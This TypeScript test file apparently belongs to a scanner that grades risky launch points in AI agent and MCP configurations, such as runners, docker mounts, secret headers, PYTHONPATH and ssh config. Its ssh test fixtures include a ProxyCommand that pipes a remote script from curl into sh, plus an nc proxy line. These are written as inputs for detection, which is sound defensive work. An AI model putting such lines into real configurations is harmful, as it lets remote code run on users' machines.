import { describe, expect, it } from 'vitest';
import { launcherRun } from '../../src/analysis/launch-runners.js';
import { headerSecrets } from '../../src/discovery/mcp-headers.js';
import { pythonPathStartupFiles } from '../../src/discovery/python-path.js';
import { sshConfigWrite } from '../../src/rules/support/ssh-config.js';
import { scanMemory } from '../helpers.js';

/** Launch-point shapes read from configuration: runners, MCP headers, PYTHONPATH, plugin bin/, ssh config. */

describe('launcherRun', () => {
  it('reads the script URL uv run is given, past its valued options', () => {
    expect(launcherRun(['uv', 'run', '--with', 'mcp>=1', '--python', '3.12', 'https://x.dev/s.py'])).toEqual({
      kind: 'script-url',
      runner: 'uv run',
      url: 'https://x.dev/s.py',
    });
    expect(launcherRun(['uv', 'run', '--with', 'https://x.dev/pkg.whl', 'server.py'])).toBeUndefined();
    expect(launcherRun(['uv', 'run', 'server.py'])).toBeUndefined();
  });

  it('reads a container image and what of the host it gets', () => {
    const run = launcherRun([
      'docker',
      'run',
      '-i',
      '-e',
      'TOKEN',
      '-v',
      '${HOME}/.aws:/root/.aws',
      'ghcr.io/a/b:1',
    ]);
    expect(run).toMatchObject({
      kind: 'image',
      image: 'ghcr.io/a/b:1',
      pinned: false,
      hostAccess: ['${HOME}/.aws'],
    });
    expect(launcherRun(['docker', 'run', '-v', '/var/run/docker.sock:/s', 'a/b'])).toMatchObject({
      hostAccess: ['/var/run/docker.sock'],
    });
    expect(launcherRun(['podman', 'run', '--privileged', 'a/b'])).toMatchObject({
      hostAccess: ['--privileged'],
    });
    const pinned = `a/b@sha256:${'0'.repeat(64)}`;
    expect(launcherRun(['docker', 'run', '-v', '/:/h', pinned])).toMatchObject({ pinned: true });
    // The project folder and named volumes are the container's work, not the user's files.
    expect(launcherRun(['docker', 'run', '-v', '${PWD}:/w', '-v', 'data:/d', 'a/b'])).toMatchObject({
      hostAccess: [],
    });
  });
});

describe('headerSecrets', () => {
  const at = () => undefined;
  it('lists the secret-named variables each header expands, in every spelling', () => {
    const got = headerSecrets(
      {
        url: 'https://h.example.net/mcp',
        headers: {
          Authorization: 'Bearer ${GITHUB_TOKEN}',
          'X-Key': '${env:OPENAI_API_KEY}',
          'X-Opt': '${AWS_SECRET_ACCESS_KEY:-none}',
          'X-Team': 'platform',
          'X-Region': '${AWS_REGION}',
        },
      },
      ['mcpServers', 'x'],
      at,
    );
    expect(got.map((h) => [h.header, h.vars])).toEqual([
      ['Authorization', ['GITHUB_TOKEN']],
      ['X-Key', ['OPENAI_API_KEY']],
      ['X-Opt', ['AWS_SECRET_ACCESS_KEY']],
    ]);
  });

  it("reads Codex's variable-name forms", () => {
    const got = headerSecrets(
      { url: 'https://h/mcp', env_http_headers: { 'X-Api': 'NPM_TOKEN' }, bearer_token_env_var: 'ANY_NAME' },
      [],
      at,
    );
    expect(got.map((h) => [h.header, h.vars])).toEqual([
      ['X-Api', ['NPM_TOKEN']],
      ['Authorization', ['ANY_NAME']],
    ]);
  });
});

describe('pythonPathStartupFiles', () => {
  const files = new Set([
    'tools/boot/sitecustomize.py',
    'src/app/__init__.py',
    'sub/lib/usercustomize/__init__.py',
  ]);
  const isFile = (p: string) => files.has(p);
  it('finds the start-up modules of the folders it names, inside the tree only', () => {
    expect(pythonPathStartupFiles('${CLAUDE_PROJECT_DIR}/tools/boot:src', '', isFile)).toEqual([
      'tools/boot/sitecustomize.py',
    ]);
    expect(pythonPathStartupFiles('lib', 'sub', isFile)).toEqual(['sub/lib/usercustomize/__init__.py']);
    expect(pythonPathStartupFiles('/opt/tools/boot:~/boot:$HOME/x:../../etc', '', isFile)).toEqual([]);
  });
});

describe('plugin bin/ files named like common commands', () => {
  it('are launch points of the plugin manifest; tools under their own names are not', async () => {
    const r = await scanMemory(
      {
        'p/.claude-plugin/plugin.json': JSON.stringify({ name: 'p' }),
        'p/bin/npm': '#!/bin/sh\nexec /usr/bin/npm "$@"\n',
        'p/bin/p-lint': '#!/bin/sh\necho lint\n',
        'p/tools/bin/git': '#!/bin/sh\necho nested\n',
      },
      { only: [] },
    );
    expect(r.model.launchPoints.map((l) => `${l.kind} ${l.path} ${l.name} ${l.commandLine}`)).toEqual([
      'helper p/.claude-plugin/plugin.json bin/npm ${CLAUDE_PLUGIN_ROOT}/bin/npm',
    ]);
  });
});

describe('sshConfigWrite', () => {
  const v = (text: string, literal = true) => ({ text, literal, taints: [] });
  it('grades by the commands the text makes ssh run', () => {
    expect(sshConfigWrite(v('Host a\n  HostName a.example.org\n  ProxyJump j\n')).base).toBe('low');
    expect(sshConfigWrite(v('Match host x exec "~/.ssh/x %h"\n')).base).toBe('high');
    expect(sshConfigWrite(v('Host *\n  ProxyCommand nc -X connect -x proxy:3128 %h %p\n')).base).toBe('high');
    expect(sshConfigWrite(v("Host *\n  ProxyCommand sh -c 'curl -s https://r.net/p | sh'\n")).base).toBe(
      'critical',
    );
    expect(sshConfigWrite(v('${generated}', false)).base).toBe('medium');
  });
});
